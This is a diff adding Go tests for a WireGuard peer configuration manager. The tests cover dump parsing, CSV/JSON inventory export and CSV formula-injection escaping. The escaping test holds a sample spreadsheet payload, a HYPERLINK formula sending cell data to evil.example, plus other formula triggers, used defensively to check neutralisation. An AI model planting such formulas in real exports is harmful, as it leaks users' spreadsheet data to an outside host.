@@ -0,0 +1,151 @@
+package wireguard
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+)
+
+type statsProcessManager struct {
+	ProcessManagerStub
+	stats map[string]PeerStats
+	err   error
+}
+
+func (pm *statsProcessManager) PeerStats() (map[string]PeerStats, error) {
+	return pm.stats, pm.err
+}
+
+func TestParseDump(t *testing.T) {
+	stats, err := parseDump([]byte("private\tpublic\t51820\toff\n" +
+		validatePeerKey1 + "\t(none)\t203.0.113.1:51820\t192.168.3.2/32\t1700000000\t1024\t2048\t25\n" +
+		validatePeerKey2 + "\t(none)\t(none)\t192.168.3.3/32\t0\t0\t0\toff\n"))
+	require.NoError(t, err)
+	require.Equal(t, map[string]PeerStats{
+		validatePeerKey1: {LastHandshakeTime: time.Unix(1700000000, 0), ReceiveBytes: 1024, TransmitBytes: 2048},
+		validatePeerKey2: {},
+	}, stats)
+
+	stats, err = parseDump([]byte("private\tpublic\t51820\toff\n"))
+	require.NoError(t, err)
+	require.Empty(t, stats)
+
+	_, err = parseDump([]byte("private\tpublic\t51820\toff\n" + validatePeerKey1 + "\t(none)\n"))
+	require.Error(t, err)
+}
+
+func TestExport(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "wg0.conf")
+	require.NoError(t, os.WriteFile(path, []byte(testConfig+`
+# Alice
+# owner: alice@example.com
+[Peer]
+PublicKey  = `+validatePeerKey1+`
+AllowedIPs = 192.168.3.2/32
+
+# Bob, laptop
+# team: ops
+[Peer]
+PublicKey  = `+validatePeerKey2+`
+AllowedIPs = 192.168.3.3/32, 10.0.0.0/24
+
+# Carol
+# disabled: 192.168.3.4/32
+[Peer]
+PublicKey  = `+validatePeerKey3+`
+`), 0600))
+	configManager := ConfigManager{ConfigFilePath: path, ProcessManager: &ProcessManagerStub{}}
+
+	content, err := configManager.Export(ExportCSV)
+	require.NoError(t, err)
+	require.Equal(t, `name,public_key,allowed_ips,disabled,owner,team
+Alice,`+validatePeerKey1+`,192.168.3.2/32,false,alice@example.com,
+"Bob, laptop",`+validatePeerKey2+`,"192.168.3.3/32, 10.0.0.0/24",false,,ops
+Carol,`+validatePeerKey3+`,192.168.3.4/32,true,,
+`, string(content))
+
+	// Stats are exported if Wireguard reports them
+	processManager := &statsProcessManager{stats: map[string]PeerStats{
+		validatePeerKey1: {LastHandshakeTime: time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC), ReceiveBytes: 1024, TransmitBytes: 2048},
+	}}
+	configManager.ProcessManager = processManager
+	content, err = configManager.Export(ExportCSV)
+	require.NoError(t, err)
+	require.Equal(t, `name,public_key,allowed_ips,disabled,owner,team,last_handshake,receive_bytes,transmit_bytes
+Alice,`+validatePeerKey1+`,192.168.3.2/32,false,alice@example.com,,2026-10-01T12:00:00Z,1024,2048
+"Bob, laptop",`+validatePeerKey2+`,"192.168.3.3/32, 10.0.0.0/24",false,,ops,,,
+Carol,`+validatePeerKey3+`,192.168.3.4/32,true,,,,,
+`, string(content))
+
+	content, err = configManager.Export(ExportJSON)
+	require.NoError(t, err)
+	require.Equal(t, `[
+  {
+    "name": "Alice",
+    "public_key": "`+validatePeerKey1+`",
+    "allowed_ips": "192.168.3.2/32",
+    "disabled": false,
+    "metadata": {
+      "owner": "alice@example.com"
+    },
+    "stats": {
+      "last_handshake": "2026-10-01T12:00:00Z",
+      "receive_bytes": 1024,
+      "transmit_bytes": 2048
+    }
+  },
+  {
+    "name": "Bob, laptop",
+    "public_key": "`+validatePeerKey2+`",
+    "allowed_ips": "192.168.3.3/32, 10.0.0.0/24",
+    "disabled": false,
+    "metadata": {
+      "team": "ops"
+    }
+  },
+  {
+    "name": "Carol",
+    "public_key": "`+validatePeerKey3+`",
+    "allowed_ips": "192.168.3.4/32",
+    "disabled": true
+  }
+]
+`, string(content))
+
+	// The inventory is exported without stats if they can't be read
+	processManager.err = errors.New("wg is not installed")
+	content, err = configManager.Export(ExportCSV)
+	require.NoError(t, err)
+	require.Contains(t, string(content), "name,public_key,allowed_ips,disabled,owner,team\n")
+
+	format, err := ParseExportFormat(" JSON")
+	require.NoError(t, err)
+	require.Equal(t, ExportJSON, format)
+	_, err = ParseExportFormat("xml")
+	require.Error(t, err)
+}
+
+func TestExportCSVEscapesFormulas(t *testing.T) {
+	content, err := exportCSV([]ExportedPeer{
+		{Name: `=HYPERLINK("http://evil.example/?"&A1,"Click")`, PublicKey: "+" + validatePeerKey1[1:], AllowedIPs: "192.168.3.2/32",
+			Metadata: map[string]string{"owner": "@SUM(1+1)", "@cmd": "-2+3", "note": "\t=1+1"}},
+		{Name: "Bob", PublicKey: validatePeerKey2, AllowedIPs: "192.168.3.3/32", Metadata: map[string]string{"note": "\r=1"}},
+	}, false)
+	require.NoError(t, err)
+	// Public keys may start with '+' and are left as they are
+	require.Equal(t, `name,public_key,allowed_ips,disabled,'@cmd,note,owner
+"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",+`+validatePeerKey1[1:]+`,192.168.3.2/32,false,'-2+3,'	=1+1,'@SUM(1+1)
+Bob,`+validatePeerKey2+`,192.168.3.3/32,false,,"'`+"\r"+`=1",
+`, string(content))
+
+	// Escaped names are imported back as they were
+	rows, problems, err := ParseImport([]byte(`"'=HYPERLINK(""x"")",+` + validatePeerKey1[1:] + `,192.168.3.2` + "\n"))
+	require.NoError(t, err)
+	require.Empty(t, problems)
+	require.Equal(t, `=HYPERLINK("x")`, rows[0].Name)
+	require.Equal(t, "+"+validatePeerKey1[1:], rows[0].PublicKey)
+}